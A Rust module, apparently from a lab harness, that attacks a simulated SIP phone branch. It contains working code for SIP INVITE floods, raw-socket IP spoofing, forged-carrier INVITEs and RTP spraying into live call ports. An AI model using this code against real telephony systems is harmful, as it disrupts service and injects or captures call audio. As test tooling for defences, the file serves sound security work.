//! The attacker.

use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, Socket, Type};

use crate::branch::{self, PHONES, PORTS};
use crate::sound::THEIRS;

const INVITES: u64 = 5_000;
const PACKETS: u64 = 10_000;
const STRANGER: [u8; 4] = [203, 0, 113, 66];
/// The known carrier, whose address is forged.
const CARRIER: [u8; 4] = [192, 0, 2, 100];

/// What is sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// INVITEs from one address.
    OneSource,
    /// INVITEs from 198.18.0.0/16 (RFC 2544), forged.
    Spoofed,
    /// INVITEs for numbers that exist, from the known carrier's address, forged.
    Carrier,
    /// RTP from one address to every port.
    Spray,
}

impl Kind {
    pub fn name(self) -> &'static str {
        match self {
            Kind::OneSource => "one-source",
            Kind::Spoofed => "spoofed",
            Kind::Carrier => "forged-carrier",
            Kind::Spray => "rtp-spray",
        }
    }
}

/// An attack that goes on.
pub struct Attack(JoinHandle<(u64, u64)>);

impl Attack {
    /// Begins one on `target`, of whose calls the ports `busy` are known.
    pub fn start(kind: Kind, target: [u8; 4], going: Arc<AtomicBool>, busy: Vec<u16>) -> Attack {
        Attack(std::thread::spawn(move || run(kind, target, &going, &busy)))
    }

    /// Ends it. Answers how many packets were sent, and how many with sound the stranger got.
    pub fn stop(self, going: &AtomicBool) -> (u64, u64) {
        going.store(false, Ordering::Relaxed);
        self.0.join().expect("it ends")
    }
}

fn run(kind: Kind, target: [u8; 4], going: &AtomicBool, busy: &[u16]) -> (u64, u64) {
    let own = UdpSocket::bind(SocketAddr::from((STRANGER, 5_060))).expect("an address");
    own.set_nonblocking(true).expect("no waiting");
    let raw = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::UDP)).expect("root");
    raw.set_header_included_v4(true).expect("a raw socket");
    let rate = if kind == Kind::Spray { PACKETS } else { INVITES };
    let began = Instant::now();
    let (mut sent, mut got) = (0, 0);
    let mut buffer = [0; 65_536];
    while going.load(Ordering::Relaxed) {
        let due = (began.elapsed().as_secs_f64() * rate as f64) as u64;
        while sent < due {
            send(kind, sent, &own, &raw, target, busy);
            sent += 1;
        }
        while let Ok((length, _)) = own.recv_from(&mut buffer) {
            got += u64::from(length > 12 && buffer[0] >> 6 == 2);
        }
        std::thread::sleep(Duration::from_micros(200));
    }
    (sent, got)
}

fn send(kind: Kind, number: u64, own: &UdpSocket, raw: &Socket, target: [u8; 4], busy: &[u16]) {
    let nobody = 100 + number % 9_000;
    let forge = |source: [u8; 4], user: u64, to: &str| {
        let packet = datagram(source, invite(source, number, user, to).as_bytes());
        let _ = raw.send_to(&packet, &SocketAddr::from((target, 0)).into());
    };
    match kind {
        Kind::OneSource => {
            let invite = invite(STRANGER, number, nobody, &nobody.to_string());
            let _ = own.send_to(invite.as_bytes(), SocketAddr::from((target, 5_060)));
        }
        Kind::Spoofed => {
            // All of the network, in an order that no cache can follow.
            let host = (number.wrapping_mul(40_503) & 0xffff) as u16;
            let [a, b] = host.to_be_bytes();
            forge([198, 18, a, b], nobody, &nobody.to_string());
        }
        Kind::Carrier => {
            let phone = 2_000 + number % PHONES as u64;
            forge(CARRIER, number, &format!("+1555{phone}"));
        }
        Kind::Spray => {
            // Every second packet to a port that has a call, the others to all in turn.
            let all = PORTS.len() as u64;
            let port = match busy.get(number as usize / 2 % busy.len().max(1)) {
                Some(port) if number.is_multiple_of(2) => *port,
                _ => PORTS.start() + (number / 2 % all) as u16,
            };
            let mut packet = [THEIRS; 172];
            packet[0] = 0x80;
            packet[1] = 0;
            packet[2..4].copy_from_slice(&(number as u16).to_be_bytes());
            let _ = own.send_to(&packet, SocketAddr::from((target, port)));
        }
    }
}

fn invite(source: [u8; 4], number: u64, user: u64, to: &str) -> String {
    let at = Ipv4Addr::from(source);
    let body = crate::sip::sdp(SocketAddr::from((source, 4_000)));
    format!(
        "INVITE sip:{to}@192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/UDP {at}:5060;branch=z9hG4bKf{number};rport\r\n\
         From: <sip:{user}@192.0.2.1>;tag=f{number}\r\nTo: <sip:2000@192.0.2.1>\r\nCall-ID: flood{number}@{at}\r\n\
         CSeq: 1 INVITE\r\nMax-Forwards: 70\r\nContact: <sip:{user}@{at}:5060>\r\nContent-Type: application/sdp\r\n\
         Content-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

/// IPv4 and UDP headers around `payload`; a UDP checksum of zero is none (RFC 768), and the kernel fills in the other.
fn datagram(source: [u8; 4], payload: &[u8]) -> Vec<u8> {
    let total = (28 + payload.len()) as u16;
    let mut packet = vec![0x45, 0];
    packet.extend(total.to_be_bytes());
    packet.extend([0, 0, 0, 0, 64, 17, 0, 0]);
    packet.extend(source);
    packet.extend(branch::HOST);
    packet.extend(5_060_u16.to_be_bytes());
    packet.extend(5_060_u16.to_be_bytes());
    packet.extend((total - 20).to_be_bytes());
    packet.extend([0, 0]);
    packet.extend(payload);
    packet
}
